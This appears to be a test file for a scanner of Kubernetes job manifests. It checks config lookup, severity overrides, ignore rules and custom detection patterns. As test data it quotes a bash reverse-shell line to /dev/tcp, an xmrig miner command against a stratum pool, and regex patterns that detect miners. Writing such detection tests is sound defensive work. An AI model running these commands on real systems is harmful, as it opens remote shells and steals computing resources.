import assert from 'node:assert/strict';
import { test } from 'node:test';
import { PRIVILEGED_CRONJOB, REVERSE_SHELL_JOB, run, runJson, workspace } from './helpers.ts';

const indicators = (json: { findings: Array<{ indicator: string }> }) => json.findings.map((finding) => finding.indicator);

test('--config: an indicator set to off is not reported, and exit 0 when nothing else is found', () => {
  const dir = workspace({ 'a.yaml': PRIVILEGED_CRONJOB, 'tuning.yaml': 'severity:\n  privileged-container: off\n' });
  const { status, json } = runJson(['scan', 'a.yaml', '--config', 'tuning.yaml'], { cwd: dir });
  assert.deepEqual(json.findings, []);
  assert.equal(status, 0);
});

test('--config: a severity override changes the reported severity', () => {
  const dir = workspace({ 'a.yaml': PRIVILEGED_CRONJOB, 'tuning.yaml': 'severity:\n  privileged-container: hint\n' });
  const { status, json } = runJson(['scan', 'a.yaml', '-c', 'tuning.yaml'], { cwd: dir });
  assert.equal(status, 0, 'a hint is below the default --fail-on warning');
  assert.equal(json.findings[0].severity, 'hint');
  assert.equal(json.config, 'tuning.yaml');
});

test('--config replaces the lookup: a .jobsentinel.yaml beside the file is not used', () => {
  const dir = workspace({
    'jobs/a.yaml': PRIVILEGED_CRONJOB,
    'jobs/.jobsentinel.yaml': 'severity:\n  privileged-container: off\n',
    'empty.yaml': 'profile: extended\n',
  });
  const { json } = runJson(['scan', 'jobs', '--config', 'empty.yaml'], { cwd: dir });
  assert.deepEqual(indicators(json), ['privileged-container']);
});

test('lookup: the nearest .jobsentinel.yaml or .yml from each file upwards applies, per folder', () => {
  const dir = workspace({
    '.jobsentinel.yaml': 'severity:\n  privileged-container: off\n',
    'team-a/a.yaml': PRIVILEGED_CRONJOB,
    'team-b/.jobsentinel.yml': 'severity:\n  privileged-container: warning\n',
    'team-b/nested/b.yaml': PRIVILEGED_CRONJOB,
  });
  const { json } = runJson(['scan', '.'], { cwd: dir });
  assert.deepEqual(
    json.findings.map((finding: { file: string; severity: string }) => `${finding.file} ${finding.severity}`),
    ['team-b/nested/b.yaml warning'],
  );
});

test('lookup: in a repository, the config at its root applies to files below the working folder', () => {
  const dir = workspace({ '.git/HEAD': 'ref: refs/heads/main\n', '.jobsentinel.yaml': 'profile: seed\n', 'deploy/job.yaml': REVERSE_SHELL_JOB.replace('hostNetwork: true', 'hostPID: true') });
  const { json } = runJson(['scan', '.'], { cwd: `${dir}/deploy` });
  assert.ok(!indicators(json).includes('host-pid'), 'profile: seed drops the extended indicators');
  assert.ok(indicators(json).includes('shell-escape'));
});

test('lookup: stdin uses the config of the working folder', () => {
  const dir = workspace({ '.jobsentinel.yaml': 'severity:\n  privileged-container: off\n' });
  const result = run(['scan', '-'], { cwd: dir, input: PRIVILEGED_CRONJOB });
  assert.equal(result.status, 0, result.stdout);
});

test('ignore entries by indicator and namespace suppress only what they name', () => {
  const config = 'ignore:\n  - indicators: [privileged-container]\n    namespaces: ["op*"]\n';
  const other = PRIVILEGED_CRONJOB.replace('namespace: ops', 'namespace: prod');
  const dir = workspace({ '.jobsentinel.yaml': config, 'ops.yaml': PRIVILEGED_CRONJOB, 'prod.yaml': other });
  const { json } = runJson(['scan', '.'], { cwd: dir });
  assert.deepEqual(json.findings.map((finding: { file: string }) => finding.file), ['prod.yaml']);
});

test('an invalid --config is exit 2 with file:line:col errors on stderr, and nothing is scanned', () => {
  const dir = workspace({ 'a.yaml': PRIVILEGED_CRONJOB, 'bad.yaml': 'profile: extended\nseverity:\n  privileged-containr: off\n' });
  const result = run(['scan', 'a.yaml', '--config', 'bad.yaml', '--format', 'json'], { cwd: dir });
  assert.equal(result.status, 2);
  assert.equal(result.stdout, '');
  assert.match(result.stderr, /^bad\.yaml:3:3: error: unknown indicator "privileged-containr".*did you mean "privileged-container"/m);
  assert.match(result.stderr, /not valid; nothing was scanned/);
});

test("a --config file that does not exist cannot be read (not \"not valid\"): exit 2, nothing scanned", () => {
  const dir = workspace({ 'a.yaml': PRIVILEGED_CRONJOB });
  const result = run(['scan', 'a.yaml', '--config', 'nope.yaml'], { cwd: dir });
  assert.equal(result.status, 2);
  assert.equal(result.stderr, 'jobsentinel scan: the config file nope.yaml cannot be read: no such file or directory; nothing was scanned.\n');
  assert.doesNotMatch(result.stderr, /not valid/);
  // policy and serve say what they did not do, in their own words.
  assert.equal(run(['policy', '--config', 'nope.yaml'], { cwd: dir }).stderr, 'jobsentinel policy: the config file nope.yaml cannot be read: no such file or directory; no policy was printed.\n');
  const serve = run(['serve', '--tls-cert', 'c.pem', '--tls-key', 'k.pem', '--config', 'nope.yaml'], { cwd: dir });
  assert.equal(serve.status, 2);
  assert.equal(serve.stderr, 'jobsentinel serve: the config file nope.yaml cannot be read: no such file or directory; the server was not started.\n');
});

test('an invalid config found by lookup is reported at its line, the valid parts apply, and the exit is 2', () => {
  const dir = workspace({
    '.jobsentinel.yaml': 'severity:\n  privileged-container: off\nignroe: []\n',
    'a.yaml': PRIVILEGED_CRONJOB,
    'b.yaml': REVERSE_SHELL_JOB,
  });
  const { status, json } = runJson(['scan', '.'], { cwd: dir });
  assert.equal(status, 2);
  assert.equal(json.errors.length, 1, 'reported once, not once per file');
  assert.equal(json.errors[0].file, '.jobsentinel.yaml');
  assert.equal(json.errors[0].range.start.line, 3);
  assert.match(json.errors[0].message, /unknown key "ignroe"/);
  assert.ok(!indicators(json).includes('privileged-container'), 'the valid severity setting still applies');
  assert.ok(indicators(json).includes('shell-escape'));
});

test('an invalid custom pattern in the config names the pattern and its position', () => {
  const config = 'custom:\n  patterns:\n    - id: miner\n      pattern: "(?<=x)xmrig"\n      severity: error\n';
  const dir = workspace({ 'cfg.yaml': config, 'a.yaml': PRIVILEGED_CRONJOB });
  const result = run(['scan', 'a.yaml', '--config', 'cfg.yaml'], { cwd: dir });
  assert.equal(result.status, 2);
  assert.match(result.stderr, /^cfg\.yaml:4:\d+: error: pattern of "miner": /m);
});

test('lookup: --stdin-name places standard input in the tree for the config lookup', () => {
  const dir = workspace({ 'team/.jobsentinel.yaml': 'severity:\n  privileged-container: off\n' });
  assert.equal(run(['scan', '-', '--stdin-name', 'team/job.yaml'], { cwd: dir, input: PRIVILEGED_CRONJOB }).status, 0);
  assert.equal(run(['scan', '-', '--stdin-name', 'other/job.yaml'], { cwd: dir, input: PRIVILEGED_CRONJOB }).status, 1);
});

test('custom patterns from the config run (on RE2) and their findings get a SARIF rule', () => {
  const config = 'custom:\n  patterns:\n    - id: crypto-miner\n      pattern: "stratum\\\\+tcp://|xmrig"\n      severity: error\n';
  const job = REVERSE_SHELL_JOB.replace('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', './xmrig -o stratum+tcp://pool.example:3333');
  const dir = workspace({ '.jobsentinel.yaml': config, 'job.yaml': job });
  const { status, json } = runJson(['scan', '.'], { cwd: dir });
  assert.equal(status, 1);
  const miner = json.findings.find((finding: { indicator: string }) => finding.indicator === 'crypto-miner');
  assert.ok(miner, JSON.stringify(json.findings));
  assert.equal(miner.severity, 'error');
  assert.equal(json.summary.files, 1, 'the config file itself is not scanned as a manifest');
  const log = JSON.parse(run(['scan', '.', '--format', 'sarif'], { cwd: dir }).stdout);
  const result = log.runs[0].results.find((r: { ruleId: string }) => r.ruleId === 'crypto-miner');
  assert.equal(log.runs[0].tool.driver.rules[result.ruleIndex].id, 'crypto-miner');
});
